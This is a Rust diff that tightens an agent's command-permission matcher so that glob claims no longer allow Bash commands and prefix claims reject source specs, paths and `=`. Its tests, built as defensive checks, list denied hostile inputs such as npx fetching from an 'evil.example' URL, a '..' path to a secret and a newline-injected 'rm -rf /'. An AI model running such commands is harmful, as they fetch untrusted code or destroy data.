@@ -6,23 +6,36 @@
 //!
 //! A pattern is one of:
 //!
-//! * `*` — any tool, any request;
+//! * `*` — any tool but `Bash`, any request;
+//! * `Bash` — any command line;
 //! * `Bash(<prefix>)` — the `Bash` tool, whose request is a command line:
 //!   its words ([`command_words`]) must begin with the prefix's words. A
-//!   prefix that ends in `*` lets its last word go on (`Bash(npx demo*)`
-//!   allows `npx demo`, `npx demo-minimal init`; `Bash(git log *)` allows
+//!   prefix that ends in `*` lets its last word go on with more name
+//!   characters (`A-Z a-z 0-9 _ - .`: never `/`, `@`, `:` or `=`), then any
+//!   further words (`Bash(npx demo*)` allows `npx demo`, `npx demo-minimal
+//!   init`, but not `npx demo@github:x/y`; `Bash(git log *)` allows
 //!   `git log --oneline` but not `git logx`); one without `*` allows exactly
 //!   its words;
 //! * a tool name, where `*` stands for any run of name characters
 //!   (`mcp__demo-minimal__*`, `memory.*`, `Read`, `res/0`): the request is
 //!   not constrained (an MCP tool's arguments are its server's to check).
+//!   Only the pattern `Bash` itself names the command tool: `*`, `B*` and
+//!   other globs never allow a command.
+//!
+//! What a prefix claim means, and no more: that program, started with those
+//! first words, **with any further arguments** — options included
+//! (`Bash(git log *)` allows `git log --output=FILE`). A claim ending in `*`
+//! on a package name allows every package whose name begins with it
+//! (`Bash(npx demo*)` allows `npx demo-anything`). Confine a program to
+//! exact arguments with a claim without `*`.
 //!
 //! Whatever the pattern, a tool name is 1 to [`MAX_TOOL_NAME`] bytes of
 //! `A-Z a-z 0-9 _ - . /`, and a command line is refused when it holds a
-//! control character (a newline, a NUL, ...) or a word with a `..` path
-//! component — the host runs it as an argument vector without a shell, so
-//! `;`, `|`, `$( )` and backticks are inert bytes of an argument, but a
-//! prefix claim on a path must not reach outside it.
+//! control character (a newline, a NUL, ...) or a word that is a path with
+//! a `..` component (defence in depth only: `--dir=..` is one word, not a
+//! path, and passes) — the host runs it as an argument vector without a
+//! shell, so `;`, `|`, `$( )` and backticks are inert bytes of an
+//! argument.
 
 /// Longest tool name.
 pub const MAX_TOOL_NAME: usize = rvm_abi::tool::MAX_NAME;
@@ -188,18 +201,19 @@ impl Claim<'_> {
         }
         let command = || if tool == COMMAND_TOOL { command_words(request).ok_or(Denial::BadCommand) } else { Err(Denial::NotClaimed) };
         match *self {
-            Claim::Any => {
-                if tool == COMMAND_TOOL {
-                    let _checked = command()?;
+            // Commands need a claim that names them: `*` is every other tool.
+            Claim::Any if tool == COMMAND_TOOL => Err(Denial::NotClaimed),
+            Claim::Any => Ok(()),
+            Claim::Name(pattern) if tool == COMMAND_TOOL => {
+                if pattern != COMMAND_TOOL {
+                    return Err(Denial::NotClaimed);
                 }
+                let _checked = command()?;
                 Ok(())
             }
             Claim::Name(pattern) => {
                 if !glob(pattern.as_bytes(), tool.as_bytes()) {
                     return Err(Denial::NotClaimed);
-                }
-                if tool == COMMAND_TOOL {
-                    let _checked = command()?;
                 }
                 Ok(())
             }
@@ -210,7 +224,14 @@ impl Claim<'_> {
                 let mut want = prefix.split_ascii_whitespace().peekable();
                 while let Some(w) = want.next() {
                     let got = words.next().ok_or(Denial::NotClaimed)?;
-                    let ok = if want.peek().is_none() && last_open { got.starts_with(w) } else { got == w };
+                    // An open last word goes on with name characters only:
+                    // no path (`git/evil`), no version or source spec
+                    // (`pkg@github:x`, `pkg@https://…`), no `=`.
+                    let ok = if want.peek().is_none() && last_open {
+                        got.strip_prefix(w).is_some_and(|rest| rest.bytes().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.')))
+                    } else {
+                        got == w
+                    };
                     if !ok {
                         return Err(Denial::NotClaimed);
                     }
@@ -264,6 +285,12 @@ mod tests {
         assert_eq!(allows(p, "Bash", "npx demo-minimal"), Ok(()));
         assert_eq!(allows(p, "Bash", "npx   demo-minimal  init --yes"), Ok(()));
         assert_eq!(allows(p, "Bash", "npx demo-minimal-extra"), Ok(()), "the last word may go on");
+        // ... with name characters only: no source spec, no path, no option.
+        for other in ["npx demo-minimal@github:evil/x", "npx demo-minimal@https://evil.example/x.tgz", "npx demo-minimal/../x", "npx demo-minimal:x", "npx demo-minimal=1"] {
+            assert_ne!(allows(p, "Bash", other), Ok(()), "{other}");
+        }
+        assert_eq!(allows("Bash(git*)", "Bash", "git/evil"), Err(Denial::NotClaimed), "a program word may not become a path");
+        assert_eq!(allows("Bash(git*)", "Bash", "git-shell"), Ok(()), "but may go on with name characters");
         assert_eq!(allows(p, "Bash", "npx demo"), Err(Denial::NotClaimed));
         assert_eq!(allows(p, "Bash", "npm demo-minimal"), Err(Denial::NotClaimed));
         assert_eq!(allows(p, "Bash", "npxdemo-minimal"), Err(Denial::NotClaimed));
@@ -295,9 +322,10 @@ mod tests {
         }
         assert_eq!(parse(p).unwrap().allows("Bash", &[b'n', 0xff]), Err(Denial::BadCommand));
         assert_eq!(allows("Bash(cat ./docs/*)", "Bash", "cat ./docs/../secret"), Err(Denial::BadCommand));
-        // `*` does not make a bad command line good.
-        assert_eq!(allows("*", "Bash", "ls\nrm -rf /"), Err(Denial::BadCommand));
-        assert_eq!(allows("*", "Bash", "ls -la"), Ok(()));
+        // `*` allows no command; `Bash` allows any, but no bad command line.
+        assert_eq!(allows("*", "Bash", "ls -la"), Err(Denial::NotClaimed));
+        assert_eq!(allows("Bash", "Bash", "ls -la"), Ok(()));
+        assert_eq!(allows("Bash", "Bash", "ls\nrm -rf /"), Err(Denial::BadCommand));
         // `..` inside a word that is not a path component is just bytes.
         assert_eq!(allows(p, "Bash", "npx demo-minimal v1..v2"), Ok(()));
     }
@@ -314,8 +342,10 @@ mod tests {
         assert_eq!(allows("Read", "ReadX", ""), Err(Denial::NotClaimed));
         assert_eq!(allows("a*b*c", "aXbYc", ""), Ok(()));
         assert_eq!(allows("a*b*c", "aXbY", ""), Err(Denial::NotClaimed));
-        // A name claim that matches Bash still checks the command line.
-        assert_eq!(allows("Ba*", "Bash", "ls\n"), Err(Denial::BadCommand));
+        // Only `Bash` itself names commands: no glob does.
+        for glob in ["Ba*", "*h", "B*h", "*"] {
+            assert_eq!(allows(glob, "Bash", "ls"), Err(Denial::NotClaimed), "{glob}");
+        }
         // Not a tool name at all.
         for bad in ["", "mcp x", "tool\n", "a".repeat(129).as_str()] {
             assert_eq!(allows("*", bad, ""), Err(Denial::BadTool), "{bad:?}");
